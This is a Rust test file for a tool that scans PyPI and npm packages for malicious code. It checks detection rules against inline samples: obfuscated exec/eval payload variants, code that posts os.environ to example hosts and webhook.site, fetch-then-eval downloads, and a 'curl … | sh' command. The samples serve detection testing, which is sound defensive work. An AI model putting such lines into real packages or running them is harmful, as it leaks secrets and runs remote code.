use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};

use sigma_core::{
    Digests, DistributionKind, DistributionReport, Ecosystem, PackageId, PackageName, Reach, Severity, Sha1, Sha256,
    Sha512,
};

use super::{RULES, catalogue};
use crate::{Analyser, Analysis, Input, Limits, Named};

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("src/rules")
}

fn entries(folder: &Path) -> Vec<PathBuf> {
    let mut entries: Vec<PathBuf> = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    entries.sort();
    entries
}

fn name(path: &Path) -> &str {
    path.file_name().unwrap().to_str().unwrap()
}

/// The report on a fixture; a `.tar` goes through the archive's reader.
fn report(path: &Path) -> DistributionReport {
    if !name(path).ends_with(".tar") {
        let (kind, mut files) = fixture(path);
        let published = files.iter().position(|(path, _)| path.ends_with("published"));
        return match published.map(|at| String::from_utf8(files.remove(at).1).unwrap()) {
            Some(published) => analyse_as(published.trim().split_once(' ').unwrap(), kind, &files).report,
            None => analyse(kind, &files).report,
        };
    }
    let bytes = fs::read(path).unwrap();
    let (package, digests) = (demo(Ecosystem::Pypi), digests());
    let (filename, kind) = ("demo-1.0.0.tar", DistributionKind::Sdist);
    let mut bytes = std::io::Cursor::new(bytes);
    let input = Input { package: Named::Published(&package), filename, kind, digests, bytes: &mut bytes };
    Analyser::new(Limits::default()).analyse(input).report
}

fn demo(ecosystem: Ecosystem) -> PackageId {
    PackageId::new(PackageName::new(ecosystem, "demo").unwrap(), "1.0.0").unwrap()
}

fn digests() -> Digests {
    let sha256 = Sha256::of(b"");
    Digests { sha256, sha512: Sha512::from_bytes([0; 64]), sha1: Sha1::from_bytes([0; 20]), size: 0 }
}

/// Files and their bytes, as they stand in the archive.
type Files = Vec<(String, Vec<u8>)>;

/// A fixture is one file, `hit.py` or `hit@setup.py` where its path matters, or several in a `.txtar`: `-- path --` lines,
/// with `hex:` before a path whose bytes are in hexadecimal; `published` is no file, but the name and version under which
/// it was published. The ecosystem follows from the names.
fn fixture(path: &Path) -> (DistributionKind, Files) {
    let bytes = fs::read(path).unwrap();
    let file = name(path);
    let files: Vec<(String, Vec<u8>)> = if file.ends_with(".txtar") {
        let text = String::from_utf8(bytes).unwrap();
        let parts = text.split("-- ").skip(1).map(|part| part.split_once(" --\n").unwrap());
        let bytes = |path: &str, text: &str| match path.strip_prefix("hex:") {
            Some(path) => (path.into(), data_encoding::HEXLOWER.decode(text.trim().as_bytes()).unwrap()),
            None => (path.into(), text.as_bytes().to_vec()),
        };
        parts.map(|(path, text)| bytes(path, text)).collect()
    } else {
        vec![(file.split_once('@').map_or(file, |(_, path)| path).to_owned(), bytes)]
    };
    let any = |ends: &[&str]| files.iter().any(|(path, _)| ends.iter().any(|end| path.ends_with(end)));
    let kind = if any(&["package.json", ".js", ".ts", ".mjs", ".cjs", "binding.gyp"]) {
        DistributionKind::NpmTarball
    } else if any(&["setup.py", "pyproject.toml", "PKG-INFO"]) {
        DistributionKind::Sdist
    } else {
        DistributionKind::Wheel
    };
    let folder = match kind {
        DistributionKind::NpmTarball => "package/",
        DistributionKind::Sdist => "demo-1.0.0/",
        DistributionKind::Wheel => "",
    };
    (kind, files.into_iter().map(|(path, bytes)| (format!("{folder}{path}"), bytes)).collect())
}

fn analyse(kind: DistributionKind, files: &Files) -> Analysis {
    analyse_as(("demo", "1.0.0"), kind, files)
}

fn analyse_as((name, version): (&str, &str), kind: DistributionKind, files: &Files) -> Analysis {
    let package = PackageId::new(PackageName::new(kind.ecosystem(), name).unwrap(), version).unwrap();
    let digests = digests();
    let files: Vec<(&str, &[u8])> = files.iter().map(|(path, bytes)| (path.as_str(), bytes.as_slice())).collect();
    Analyser::new(Limits::default()).analyse_files(Some(&package), kind, "demo", digests, &files)
}

/// Every rule file and its folder of fixtures, by id.
fn rule_files() -> BTreeMap<String, PathBuf> {
    let groups = entries(&root()).into_iter().filter(|path| path.is_dir());
    let files = groups.flat_map(|group| entries(&group)).filter(|path| path.extension().is_some_and(|e| e == "rs"));
    let rules = files.filter(|path| fs::read_to_string(path).unwrap().contains("const RULE: Rule"));
    rules.map(|path| (path.file_stem().unwrap().to_str().unwrap().replace('_', "-"), path.with_extension(""))).collect()
}

#[test]
fn every_rule_file_is_registered_under_its_name() {
    let registered: BTreeSet<String> = RULES.iter().map(|rule| rule.id.to_owned()).collect();
    assert_eq!(registered, rule_files().into_keys().collect());
    assert_eq!(registered.len(), RULES.len(), "a rule stands twice in the table");
    for rule in RULES {
        for (field, text) in [("message", rule.message), ("why", rule.why), ("false_positives", rule.false_positives)] {
            assert!(text.ends_with('.'), "{}: {field} is one sentence or more", rule.id);
        }
        assert!(!rule.example.is_empty(), "{}: example is a piece of code that it reports", rule.id);
    }
}

#[test]
fn every_rule_has_a_hit_and_a_miss() {
    let mut wrong = BTreeMap::new();
    for (id, folder) in rule_files() {
        let fixtures = if folder.is_dir() { entries(&folder) } else { Vec::new() };
        for kind in ["hit", "miss"] {
            assert!(
                fixtures.iter().any(|path| name(path).starts_with(kind)),
                "{id} has no {kind} in {}",
                folder.display()
            );
        }
        for path in fixtures {
            let report = report(&path);
            let found: BTreeSet<&str> = report.findings.iter().map(|finding| finding.rule.as_str()).collect();
            if found.contains(id.as_str()) != name(&path).starts_with("hit") {
                wrong.insert(format!("{id}/{}", name(&path)), format!("{found:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "hits that are none, and misses that are hits: {wrong:#?}");
}

/// What `sigma rules` says of severities is what the rules and their fixtures give. Like a snapshot, the list is written
/// anew with `INSTA_UPDATE=always`.
#[test]
fn every_severity_of_a_rule_is_listed() {
    let path = root().join("severities.txt");
    let written = fs::read_to_string(&path).unwrap();
    let mut made: String =
        written.lines().filter(|line| line.starts_with('#')).map(|line| format!("{line}\n")).collect();
    for (id, folder) in rule_files() {
        let source = fs::read_to_string(folder.with_extension("rs")).unwrap();
        let named = source.split("Severity::").skip(1).map(|rest| rest.split(|c: char| !c.is_alphabetic()).next());
        let mut all: BTreeSet<Severity> =
            named.filter_map(|word| catalogue::severity(&word.unwrap_or_default().to_lowercase())).collect();
        for path in entries(&folder) {
            let findings = report(&path).findings.into_iter().filter(|finding| finding.rule == id);
            all.extend(findings.map(|finding| finding.severity));
        }
        // Some severities come from data files, so what is listed stays.
        all.extend(catalogue::severities(&id));
        if all.len() > 1 {
            let words: Vec<String> = all.iter().map(|word| format!("{word:?}").to_lowercase()).collect();
            made.push_str(&format!("{id} {}\n", words.join(" ")));
        }
    }
    if made != written && std::env::var("INSTA_UPDATE").is_ok_and(|update| update == "always") {
        fs::write(&path, &made).unwrap();
        return;
    }
    assert!(made == written, "rules/severities.txt is old, INSTA_UPDATE=always writes it; it should be\n{made}");
}

/// Every rule over every fixture: a rule that grows too eager shows here.
#[test]
fn what_every_fixture_shows() {
    let mut lines = Vec::new();
    for (id, folder) in rule_files() {
        for path in entries(&folder) {
            let report = report(&path);
            let seen: BTreeSet<String> = report
                .findings
                .iter()
                .map(|finding| format!("{}:{:?}:{:?}", finding.rule, finding.severity, finding.reach))
                .collect();
            lines.push(format!("{id}/{} -> {}", name(&path), seen.into_iter().collect::<Vec<_>>().join(" ")));
        }
    }
    insta::assert_snapshot!(lines.join("\n"));
}

/// One-line variants of a decoded payload, by which scanners that read text are evaded.
#[test]
fn variants_of_a_decoded_payload_are_all_seen() {
    let variants: &[(&str, &str)] = &[
        ("a.py", "import base64\nexec(base64.b64decode('cGFzcw=='))\n"),
        ("a.py", "from base64 import b64decode\nexec(b64decode('cGFzcw=='))\n"),
        ("a.py", "from base64 import *\nexec(b64decode('cGFzcw=='))\n"),
        ("a.py", "x = '''\"'''\nimport base64\nexec(base64.b64decode('cGFzcw=='))\n"),
        ("a.py", "import base64, builtins\ngetattr(builtins, 'exec')(base64.b64decode('cGFzcw=='))\n"),
        ("a.py", "e = eval\nimport base64\np = base64.b64decode('cGFzcw==')\ne(p)\n"),
        ("a.py", "import base64\nexec(getattr(base64, 'b64' + 'decode')('cGFzcw=='))\n"),
        ("a.py", "import codecs\nexec(codecs.decode('cnff', 'rot13'))\n"),
        ("a.py", "exec(bytes([112, 97, 115, 115]))\n"),
        ("a.py", "exec('ssap'[::-1])\n"),
        ("a.mts", "const run: any = (0, eval); run(atob('MQ=='));\n"),
        ("a.cjs", "new Function(Buffer.from('31', 'hex').toString())();\n"),
        ("a.js", "require('vm').runInThisContext(Buffer.from('MQ==', 'base64').toString());\n"),
        ("a.js", "globalThis['e' + 'val'](String.fromCharCode(49));\n"),
        ("a.js", "const d = s => Buffer.from(s, 'base64').toString(); eval(d('MQ=='));\n"),
    ];
    for (path, source) in variants {
        let kind = if path.ends_with("py") { DistributionKind::Wheel } else { DistributionKind::NpmTarball };
        let files = vec![(format!("package/{path}"), source.as_bytes().to_vec())];
        let hits = analyse(kind, &files).report.rule_hits;
        assert!(hits.contains_key("decoded-execution"), "{source}{hits:?}");
    }
}

fn hits(kind: DistributionKind, files: &[(&str, &str)]) -> BTreeMap<String, u64> {
    let files: Files = files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect();
    analyse(kind, &files).report.rule_hits
}

/// A flow whose source, way and end lie in different files is the same flow.
#[test]
fn flows_are_followed_from_file_to_file() {
    let send = "import requests\ndef send(data):\n    requests.post('https://a.example.org', data=data)\n";
    let collect = "import os\ndef collect():\n    return dict(os.environ)\n";
    let cases: &[&[(&str, &str)]] = &[
        &[("p/__init__.py", "from .net import send\nimport os\nsend(os.environ)\n"), ("p/net.py", send)],
        &[
            ("p/__init__.py", "from p.net import send\nfrom p.box import collect\nsend(collect())\n"),
            ("p/net.py", send),
            ("p/box.py", collect),
        ],
        &[
            (
                "p/__init__.py",
                "from . import box\nimport requests\nrequests.post('https://a.example.org', data=box.collect())\n",
            ),
            ("p/box.py", collect),
        ],
    ];
    for files in cases {
        let found = hits(DistributionKind::Wheel, files);
        assert!(found.contains_key("environment-exfiltration"), "{files:?} {found:?}");
    }
    let cases: &[&[(&str, &str)]] = &[
        &[
            ("package/index.js", "const { send } = require('./lib/net');\nsend(JSON.stringify(process.env));\n"),
            (
                "package/lib/net.js",
                "exports.send = (d) => fetch('https://a.example.org', { method: 'POST', body: d });\n",
            ),
        ],
        &[
            ("package/index.mjs", "import send from './net.mjs';\nimport { all } from './box.mjs';\nsend(all());\n"),
            ("package/net.mjs", "export default function (d) { fetch('https://a.example.org', { body: d }); }\n"),
            ("package/box.mjs", "export const all = () => process.env;\n"),
        ],
    ];
    for files in cases {
        let found = hits(DistributionKind::NpmTarball, files);
        assert!(found.contains_key("environment-exfiltration"), "{files:?} {found:?}");
    }
    let harmless: &[(&str, &str)] =
        &[("p/__init__.py", "from .net import send\nsend('hello')\n"), ("p/net.py", send), ("p/box.py", collect)];
    assert!(!hits(DistributionKind::Wheel, harmless).contains_key("environment-exfiltration"));
}

/// What a module runs in another file when it is imported runs at import, not when somebody calls it.
#[test]
fn functions_of_other_files_run_when_their_caller_does() {
    let files: &[(&str, &str)] = &[
        ("p/__init__.py", "from .net import start\nstart()\n"),
        (
            "p/net.py",
            "import subprocess\ndef start():\n    subprocess.run(['true'])\ndef other():\n    subprocess.run(['false'])\n",
        ),
    ];
    let files: Files = files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect();
    let findings = analyse(DistributionKind::Wheel, &files).report.findings;
    let mut reach: Vec<(u32, Reach)> =
        findings.iter().filter(|f| f.rule == "process-spawn").map(|f| (f.line, f.reach)).collect();
    reach.sort();
    assert_eq!(reach, [(3, Reach::Import), (5, Reach::Call)]);
}

/// What a function is given where it is called is known where it is used, also when the call stands further down.
#[test]
fn values_are_followed_through_functions_objects_and_variables() {
    let sources = [
        "import os, requests\ndef send(d):\n    requests.post('https://a.example.org', json=d)\nsend(dict(os.environ))\n",
        "import os, requests\nclass A:\n    def __init__(self):\n        self.d = dict(os.environ)\n    def go(self):\n        requests.post('https://a.example.org', json=self.d)\nA().go()\n",
        "import os, requests\nd = {}\ndef fill():\n    global d\n    d = dict(os.environ)\nfill()\nrequests.post('https://a.example.org', json=d)\n",
        "import os, requests\nd = []\nd.append(os.environ.copy())\nrequests.post('https://a.example.org', json=d)\n",
        "import os, requests\nfrom threading import Thread\ndef send(d):\n    requests.post('https://a.example.org', json=d)\nThread(target=send, args=(dict(os.environ),)).start()\n",
    ];
    for source in sources {
        let found = hits(DistributionKind::Wheel, &[("p.py", source)]);
        assert!(found.contains_key("environment-exfiltration"), "{source} {found:?}");
    }
    let sources = [
        "const https = require('https');\nclass A { constructor() { this.d = process.env; } go() { fetch('https://a.example.org', { body: this.d }); } }\nnew A().go();\n",
        "const https = require('https');\nlet body = '';\nhttps.get('https://a.example.org/x', (res) => { res.on('data', (d) => { body += d; }); res.on('end', () => eval(body)); });\n",
        "fetch('https://a.example.org/x').then((r) => r.text()).then((t) => eval(t));\n",
    ];
    for source in sources {
        let found = hits(DistributionKind::NpmTarball, &[("package/a.js", source)]);
        let flow = found.contains_key("environment-exfiltration") || found.contains_key("download-execution");
        assert!(flow, "{source} {found:?}");
    }
}

/// Harmless hits cannot push out the one that matters, nor a flood of calls the one that harms.
#[test]
fn decoys_hide_nothing() {
    let decoys = "URLS = ['https://webhook.site/x']\n".repeat(100);
    let source =
        format!("import requests, os\n{decoys}requests.post('https://webhook.site/y', data=dict(os.environ))\n");
    let report = |source: &str| {
        let files = vec![("p.py".to_owned(), source.as_bytes().to_vec())];
        analyse(DistributionKind::Wheel, &files).report
    };
    let worst = report(&source).findings.iter().filter(|f| f.rule == "collector-address").map(|f| f.severity).max();
    assert_eq!(worst, Some(Severity::Critical));
    let source = format!("import os\n{}os.system('curl https://a.example.org/x | sh')\n", "open(a)\n".repeat(25_000));
    let report = report(&source);
    assert!(report.rule_hits.contains_key("process-spawn"), "{:?}", report.rule_hits);
    assert!(report.coverage.has_gaps(), "what was left out is told");
}
